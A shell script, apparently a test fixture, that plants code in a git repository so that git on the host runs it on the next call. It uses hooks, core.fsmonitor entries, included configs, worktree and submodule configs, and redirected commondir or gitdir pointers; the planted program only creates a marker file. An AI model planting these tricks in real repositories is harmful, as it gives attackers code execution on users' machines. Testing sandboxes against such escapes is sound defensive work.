# Makes git on the host run a program of the attacker the next time the user calls git. $1 names the
# attack.
planted() { printf '#!/bin/sh\ntouch "$HOME/pwned"\n' >"$1" && chmod 755 "$1"; }
monitor() { printf '[core]\n\tfsmonitor = %s/evil.sh\n' "$PWD"; }
planted evil.sh
case $1 in
hook) planted .git/hooks/pre-commit ;;
config) monitor >>.git/config ;;
commondir)
    # git then reads settings, hooks, objects and refs from `evil`.
    cp -rL .git evil
    rm -f evil/commondir
    monitor >>evil/config
    echo ../evil >.git/commondir
    ;;
config.worktree) monitor >>.git/config.worktree ;;
beside) monitor >.git/worktrees/beside/config.worktree ;;
beside-module) monitor >.git/worktrees/beside/modules/sub/config.worktree ;;
module) monitor >>.git/modules/sub/config ;;
module-hook) planted .git/modules/sub/hooks/pre-commit ;;
hookspath)
    planted tools/hooks/pre-commit
    planted tools/hooks/post-commit
    ;;
hookspath-moved)
    mv tools tools.aside
    mkdir -p tools/hooks
    planted tools/hooks/pre-commit
    ;;
include) monitor >>team.gitconfig ;;
include-moved)
    mv team.gitconfig team.aside
    monitor >team.gitconfig
    ;;
worktree-hook) planted "$(git rev-parse --git-common-dir)/hooks/pre-commit" ;;
worktree-config) monitor >>"$(git rev-parse --git-dir)/config.worktree" ;;
worktree-commondir)
    cp -rL "$(git rev-parse --git-common-dir)" evil
    monitor >>evil/config
    echo "$PWD/evil" >"$(git rev-parse --git-dir)/commondir"
    ;;
worktree-pointer)
    cp -rL "$(git rev-parse --git-common-dir)" evil
    monitor >>evil/config
    echo "gitdir: $PWD/evil" >.git
    ;;
*) exit 1 ;;
esac
echo done
